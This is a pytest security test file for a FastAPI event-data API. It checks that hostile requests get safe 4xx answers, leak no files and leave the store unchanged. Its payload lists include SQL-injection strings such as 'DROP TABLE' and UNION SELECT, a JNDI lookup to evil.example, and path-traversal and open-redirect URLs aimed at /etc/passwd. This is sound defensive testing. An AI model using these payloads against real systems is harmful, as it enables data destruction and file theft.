"""The HTTP API under attack: SQL metacharacters, allow-list names, path traversal, huge and
negative limits, write methods. Every answer is a 2xx/4xx with the JSON error shape, never a 5xx,
a file read or an off-site redirect; the store is unchanged afterwards.

The loopback flood (``scripts/flood.py``) runs here for ``DETENTE_FLOOD_SECONDS`` (default 10 s).
"""

from __future__ import annotations

import http.client
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

import detente
from detente.web import create_app

from .test_api import _items

uvicorn = pytest.importorskip("uvicorn")
ROOT = Path(__file__).resolve().parents[1]

SQL = [
    "' OR 1=1 --",
    "' OR '1'='1",
    '"; DROP TABLE events; --',
    "'; DELETE FROM events; --",
    "1; SELECT * FROM skips",
    "') UNION SELECT event_id, sentence FROM events --",
    "%27",
    "%27%20OR%201%3D1--",
    "IRN\x00' OR 1=1",
    "\x00",
    "%",
    "_",
    "*",
    "\\",
    "IRN'",
    "é中文🙂\u202e",
    "0x27",
    "1e999",
    "-1",
    "${jndi:ldap://evil.example/a}",
    "ATTACH '/etc/passwd' AS x",
    "read_csv('/etc/passwd')",
]
TRAVERSAL = [
    "/../etc/passwd",
    "/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/%2E%2E/%2E%2E/etc/passwd",
    "//evil.example",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "/static/../../etc/passwd",
    "/static/../../../pyproject.toml",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/%2e%2e/app.py",
    "/static/..%2fapp.py",
    "/static/..%2f..%2f..%2fpyproject.toml",
    "/static/%252e%252e/%252e%252e/etc/passwd",
    "/static/....//....//etc/passwd",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/static/..\\..\\app.py",
    "/static/%00../app.py",
    "/api/../static/../../etc/passwd",
    "/api/events/..%2f..%2fetc%2fpasswd",
    "/api/articles/../../../etc/passwd",
    "/static/vendor/../../app.py",
]
LEAKS = (b"root:", b"[project]", b"def create_app", b"import ")


def _store(path: str) -> str:
    with detente.open_store(path) as store:
        store.write_batch(_items(), [], "run1")
    return path


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    path = _store(str(tmp_path_factory.mktemp("attacks") / "a.duckdb"))
    with detente.open_store(path, read_only=True) as store:
        before = store.counts()
    yield path
    with detente.open_store(path, read_only=True) as store:
        assert store.counts() == before  # nothing written, nothing dropped


@pytest.fixture(scope="module")
def client(db: str) -> Iterator[TestClient]:
    with TestClient(create_app(db), raise_server_exceptions=False) as c:
        yield c


class _Server(uvicorn.Server):  # type: ignore[misc,name-defined]
    def install_signal_handlers(self) -> None:  # running in a thread
        pass


@pytest.fixture(scope="module")
def server(db: str) -> Iterator[tuple[str, int]]:
    """The app on a loopback port, for raw requests that a client library would normalise."""
    from .test_browser import _free_port

    port = _free_port()
    srv = _Server(uvicorn.Config(create_app(db), host="127.0.0.1", port=port, log_level="critical"))
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not srv.started:
        assert time.monotonic() < deadline
        time.sleep(0.05)
    yield "127.0.0.1", port
    srv.should_exit = True
    thread.join(10)


def _raw(server: tuple[str, int], method: str, path: str, headers: dict[str, str] | None = None) -> Any:
    con = http.client.HTTPConnection(*server, timeout=10)
    try:
        con.putrequest(method, path, skip_accept_encoding=True)
        for k, v in (headers or {}).items():
            con.putheader(k, v)
        con.endheaders()
        r = con.getresponse()
        return r.status, dict(r.getheaders()), r.read()
    except (ConnectionError, http.client.RemoteDisconnected) as exc:
        return 0, {}, str(exc).encode()
    finally:
        con.close()


def _operations(client: TestClient) -> list[tuple[str, list[dict[str, Any]]]]:
    spec = client.get("/openapi.json").json()
    ops = [(path, op.get("parameters", [])) for path, item in spec["paths"].items() for op in item.values()]
    assert len(ops) >= 10 and all(path.startswith("/api/") for path, _ in ops)
    return ops


def _base(params: list[dict[str, Any]]) -> dict[str, str]:
    """Valid values for the required query parameters (``a`` and ``b`` of /api/dyad)."""
    return {p["name"]: "IRN" for p in params if p.get("required") and p["in"] == "query"}


def test_sql_metacharacters_in_every_parameter(client: TestClient) -> None:
    asked = 0
    statuses: dict[int, int] = {}
    for path, params in _operations(client):
        for param in params:
            for payload in SQL:
                if param["in"] == "path":
                    url, query = path.replace("{" + param["name"] + "}", quote(payload, safe="")), {}
                else:
                    url = path.replace("{event_id}", "x").replace("{doc_id}", "x")
                    query = {**_base(params), param["name"]: payload}
                r = client.get(url, params=query)
                asked += 1
                statuses[r.status_code] = statuses.get(r.status_code, 0) + 1
                assert r.status_code in (200, 404, 422), (url, param["name"], payload, r.status_code, r.text)
                assert "content-security-policy" in r.headers
                if r.status_code != 200:
                    assert set(r.json()["error"]) >= {"status", "code", "message"}
                elif path == "/api/events" and param["name"] in ("actor", "source", "target", "dyad"):
                    assert r.json()["total"] == 0, (param["name"], payload)  # bound, not widened
    print(f"sql: {asked} requests over {len(_operations(client))} operations: {sorted(statuses.items())}")


@pytest.mark.parametrize(
    ("url", "params"),
    [
        ("/api/events", {"sort": "goldstein; DROP TABLE events"}),
        ("/api/events", {"sort": "event_date DESC"}),
        ("/api/events", {"sort": "(SELECT 1)"}),
        ("/api/events", {"modality": "factual' OR 1=1 --"}),
        ("/api/events", {"cameo": "19' OR 1=1"}),
        ("/api/events", {"from": "2014-01-01' OR 1=1"}),
        ("/api/dyad", {"a": "IRN", "b": "IRQ", "interval": "decade"}),
        ("/api/dyad", {"a": "IRN", "b": "IRQ", "interval": "month; DROP TABLE events"}),
        ("/api/dyad", {"a": "IRN", "b": "IRQ", "directed": "1 OR 1"}),
        ("/api/events", {"offset": "-1"}),
        ("/api/events", {"offset": str(10**12)}),
        ("/api/articles", {"offset": "-1"}),
        ("/api/events", {"limit": "1e9"}),
        ("/api/events", {"limit": "NaN"}),
        ("/api/events", {"actor": "A" * 60_000}),
        ("/api/dyad", {"a": "A" * 60_000, "b": "IRQ"}),
    ],
)
def test_names_outside_allow_lists_and_bad_numbers_are_422(
    client: TestClient, url: str, params: dict[str, str]
) -> None:
    r = client.get(url, params=params)
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] == "invalid_parameter"


@pytest.mark.parametrize("limit", [10**9, 10**30, -1, 0, -(10**9)])
def test_limits_are_clamped(client: TestClient, limit: int) -> None:
    for url, most in (("/api/events", 1000), ("/api/network", None), ("/api/articles", 1000)):
        r = client.get(url, params={"limit": limit})
        assert r.status_code == 200, (url, r.text)
        if most:
            assert r.json()["limit"] == (most if limit > 0 else 1)
    assert client.get("/api/events.csv", params={"limit": 10**9}).status_code == 200
    assert client.get("/api/status", params={"skips": 10**9}).status_code == 200


@pytest.mark.parametrize("path", TRAVERSAL)
def test_path_traversal_is_404_without_file_or_redirect(server: tuple[str, int], path: str) -> None:
    status, headers, body = _raw(server, "GET", path)
    assert status == 404, (path, status, body[:200])
    assert "location" not in {k.lower() for k in headers}
    assert not any(leak in body for leak in LEAKS), (path, body[:200])
    assert json.loads(body)["error"]["code"] == "not_found"


def test_huge_query_string_is_refused_not_5xx(server: tuple[str, int]) -> None:
    for path in ("/api/events?actor=" + "A" * 100_000, "/api/events?" + "&".join(["x=1"] * 25_000)):
        status, _, _ = _raw(server, "GET", path)
        assert status in (200, 400, 413, 414, 422, 431, 0), status  # 0: the server closed the socket
        assert status < 500
    status, _, _ = _raw(server, "GET", "/api/events?limit=5")  # still serving
    assert status == 200


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND"])
@pytest.mark.parametrize("path", ["/", "/api/events", "/api/events/x", "/static/app.js", "/nowhere"])
def test_write_methods_are_405(server: tuple[str, int], method: str, path: str) -> None:
    headers = {"Origin": "https://evil.example", "Content-Type": "application/x-www-form-urlencoded"}
    status, got, _ = _raw(server, method, path, headers)
    assert status == 405, (method, path, status)
    assert got.get("allow") == "GET, HEAD, OPTIONS"
    assert "access-control-allow-origin" not in {k.lower() for k in got}


def test_cross_origin_reads_get_no_cors_grant(client: TestClient) -> None:
    r = client.options(
        "/api/events", headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
    )
    assert "access-control-allow-origin" not in r.headers
    r = client.get("/api/events", headers={"Origin": "https://evil.example"})
    assert "access-control-allow-origin" not in r.headers


@pytest.mark.parametrize("path", ["/", "/api/events", "/api/events/nope", "/static/app.js", "/openapi.json"])
def test_csp_on_html_api_and_errors(client: TestClient, path: str) -> None:
    r = client.get(path)
    csp = r.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "default-src 'none'" in csp
    assert r.headers["x-content-type-options"] == "nosniff"


def test_loopback_flood_answers_only_2xx_429_503_with_flat_memory(db: str, tmp_path: Path) -> None:
    # .ci/run installs wrk; without it scripts/flood.py falls back to its httpx client
    seconds = os.environ.get("DETENTE_FLOOD_SECONDS", "10")
    out = tmp_path / "flood.json"
    cmd = [sys.executable, str(ROOT / "scripts" / "flood.py"), "--db", db, "--seconds", seconds]
    done = subprocess.run([*cmd, "--json", str(out)], capture_output=True, text=True, timeout=300)
    print(done.stdout)
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads(out.read_text())
    assert report["requests"] > 100
    assert set(report["statuses"]) <= {"200", "429", "503"}, report["statuses"]
    assert report["errors"] == 0
    assert report["rss_end_mb"] - report["rss_start_mb"] < 100
